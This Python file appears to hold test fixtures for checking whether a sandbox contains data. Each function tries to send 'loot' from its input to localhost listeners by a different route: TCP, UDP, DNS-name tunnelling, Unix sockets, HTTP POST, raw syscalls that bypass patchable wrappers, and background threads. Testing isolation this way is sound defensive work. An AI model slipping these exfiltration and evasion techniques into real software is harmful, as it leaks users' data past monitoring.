"""Apps that send what they were given to somebody. `settings` tells them everything an insider could know."""

import ctypes
import os
import socket
import struct
import threading
import urllib.request

LIBC = ctypes.CDLL(None, use_errno=True)


def loot(rows):
    return b"LOOT" + rows["x"].tobytes()[:28]


def tcp(parameters, rows, settings):
    with socket.create_connection(("127.0.0.1", settings["tcp"]), 2) as s:
        s.sendall(loot(rows))
    return parameters.values()


def tcp6(parameters, rows, settings):
    with socket.create_connection(("::1", settings["tcp6"]), 2) as s:
        s.sendall(loot(rows))
    return parameters.values()


def udp(parameters, rows, settings):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(loot(rows), ("127.0.0.1", settings["udp"]))
    return parameters.values()


def dns(parameters, rows, settings):
    """A question for a name that has the loot in it, as a resolver of the app's own would send it."""
    name = loot(rows).hex()[:60].encode()
    query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\0\0\1\0\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", settings["udp"]))
    return parameters.values()


def unix_stream(parameters, rows, settings):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(settings["unix"])
        s.sendall(loot(rows))
    return parameters.values()


def unix_abstract(parameters, rows, settings):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0" + settings["abstract"])
        s.sendall(loot(rows))
    return parameters.values()


def http_to_the_supernode(parameters, rows, settings):
    request = urllib.request.Request(f"http://127.0.0.1:{settings['tcp']}/push", data=loot(rows), method="POST")
    urllib.request.urlopen(request, timeout=1)
    return parameters.values()


def raw_system_call(parameters, rows, settings):
    """socket, connect and write by number, past every wrapper that could be patched."""
    fd = LIBC.syscall(41, 2, 1, 0)
    address = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(settings["tcp"]), socket.inet_aton("127.0.0.1"))
    LIBC.syscall(42, fd, address, len(address))
    data = loot(rows)
    LIBC.syscall(1, fd, data, len(data))
    return parameters.values()


def listen_and_be_asked(parameters, rows, settings):
    with socket.create_server(("127.0.0.1", settings["listen"])) as server:
        server.settimeout(1.0)
        asked, _ = server.accept()
        with asked:
            asked.sendall(loot(rows))
    return parameters.values()


def netlink(parameters, rows, settings):
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16)
    print("GOT a netlink socket")
    return parameters.values()


def packet(parameters, rows, settings):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
    print("GOT a packet socket")
    return parameters.values()


def vsock(parameters, rows, settings):
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    print("GOT a vsock")
    return parameters.values()


def kernel_crypto(parameters, rows, settings):
    socket.socket(38, socket.SOCK_SEQPACKET)  # AF_ALG
    print("GOT a socket of the kernel's cryptography")
    return parameters.values()


def pair_of_sockets(parameters, rows, settings):
    socket.socketpair()
    print("GOT a pair of sockets")
    return parameters.values()


def io_uring(parameters, rows, settings):
    if LIBC.syscall(425, 8, ctypes.create_string_buffer(240)) >= 0:
        print("GOT an io_uring")
    return parameters.values()


def from_a_thread_that_goes_on(parameters, rows, settings):
    data = loot(rows)

    def later():
        os.sched_yield()
        with socket.create_connection(("127.0.0.1", settings["tcp"]), 2) as s:
            s.sendall(data)

    thread = threading.Thread(target=later)
    thread.start()
    thread.join(2)
    return parameters.values()
